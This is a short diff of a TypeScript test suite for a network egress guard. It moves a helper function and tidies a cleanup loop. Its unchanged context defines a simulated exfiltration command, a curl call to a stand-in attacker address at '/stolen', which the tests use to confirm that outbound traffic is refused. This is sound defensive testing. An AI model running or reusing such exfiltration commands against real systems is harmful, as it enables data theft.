@@ -22,6 +22,8 @@ const STEAL = `curl -4 -sS -m 2 http://${ATTACKER.ipv4}/stolen`;
 const REFUSED = `curl: (7) Failed to connect to ${ATTACKER.ipv4} port 80`;
 const ASK = "dig +short +tries=1 +time=1 github.test";
 
+const isOpen = async (pod: Machine): Promise<boolean> => (await guardTablesOf(pod)).length === 0;
+
 describe.skipIf(obstacle !== "")(`a guard that dies${obstacle}`, () => {
   let scene: AttackScene;
   const guards: StandingGuard[] = [];
@@ -29,9 +31,9 @@ describe.skipIf(obstacle !== "")(`a guard that dies${obstacle}`, () => {
     scene = await createAttackScene();
   }, 30_000);
   afterAll(async () => {
-    for (const { child, finish } of guards) {
-      finish();
-      child.kill("SIGKILL");
+    for (const guard of guards) {
+      guard.finish();
+      guard.child.kill("SIGKILL");
     }
     await scene[Symbol.asyncDispose]();
   });
@@ -42,8 +44,6 @@ describe.skipIf(obstacle !== "")(`a guard that dies${obstacle}`, () => {
     guards.push(guard);
     return { pod, guard };
   };
-  const isOpen = async (pod: Machine): Promise<boolean> => (await guardTablesOf(pod)).length === 0;
-
   test("in audit mode leaves the job as it was, with its resolver", async () => {
     const { pod, guard } = await start(toPolicy({ mode: "audit", allow: ["github.test"] }));
     process.kill(guard.pid, "SIGKILL");
